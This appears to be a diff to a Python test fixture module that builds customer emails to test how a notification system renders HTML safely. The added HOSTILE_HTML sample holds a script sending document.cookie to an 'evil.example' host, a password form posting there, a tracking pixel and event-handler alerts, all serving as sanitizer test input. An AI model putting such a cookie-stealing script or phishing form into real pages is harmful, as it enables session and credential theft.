@@ -24,6 +24,20 @@ LOG = (b"2026-11-20 09:12:03 kc4 ERROR alarm \x00\xff\r\n" + bytes(range(256))) 
 TRACE_SIZE = 30 * 1024 * 1024 + 200 * 1024  # 30,2 MB
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(2000)
 
+# A customer's HTML mail with an inline image (cid:), a tracking pixel, a script, styles, event
+# handlers, a form and a link: what the notification's HTML alternative must show safely.
+HOSTILE_HTML = """<html><head><title>KC4</title><style>body { background: url(https://evil.example/bg.gif) }</style>
+<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
+<body onload="alert(1)">
+<p>Guten Tag,</p>
+<p style="color: red" onclick="alert(2)">die <b>KC4</b> meldet seit heute früh <i>Alarm&nbsp;17</i>, siehe Bild:</p>
+<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm" width="320"></p>
+<img src="https://tracker.example/open.gif?u=juergen" width="1" height="1" alt="">
+<p>Handbuch: <a href="https://kunde.example/kc4.pdf" target="_blank">KC4</a></p>
+<form action="https://evil.example/login"><input name="password"></form>
+<p>Viele Grüße<br>Jürgen Müller</p>
+</body></html>"""
+
 
 def trace_bytes() -> bytes:
     return os.urandom(1024) * (TRACE_SIZE // 1024)
@@ -46,19 +60,25 @@ def customer_mail(
     files: list[tuple[str, str, bytes]],
     inline_png: bytes | None = None,
     message_id: str | None = None,
+    text: str = "Guten Tag,\n\nanbei das Protokoll des Alarms.\n\nViele Grüße\nJürgen Müller\n",
+    html: str | None = None,
+    in_reply_to: str | None = None,
 ) -> bytes:
-    """A customer's mail as Thunderbird writes one: text + HTML (the HTML with an inline image as
-    multipart/related when ``inline_png``), then the files."""
+    """A customer's mail as Thunderbird writes one: text + HTML (``html``, else a short one; with an
+    inline image as multipart/related when ``inline_png``), then the files."""
     msg = EmailMessage()
     msg["From"] = f"{sender[0]} <{sender[1]}>"
     msg["To"] = to
     msg["Subject"] = subject
     msg["Date"] = "Fri, 20 Nov 2026 09:30:00 +0100"
     msg["Message-ID"] = message_id or make_msgid(domain=sender[1].split("@")[1])
-    msg.set_content("Guten Tag,\n\nanbei das Protokoll des Alarms.\n\nViele Grüße\nJürgen Müller\n")
-    html = "<p>Guten Tag,</p><p>anbei das Protokoll des Alarms.</p>"
-    if inline_png is not None:
-        html += '<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm"></p>'
+    if in_reply_to:
+        msg["In-Reply-To"] = msg["References"] = in_reply_to
+    msg.set_content(text)
+    if html is None:
+        html = "<p>Guten Tag,</p><p>anbei das Protokoll des Alarms.</p>"
+        if inline_png is not None:
+            html += '<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm"></p>'
     msg.add_alternative(html, subtype="html")
     if inline_png is not None:
         msg.get_payload()[1].add_related(
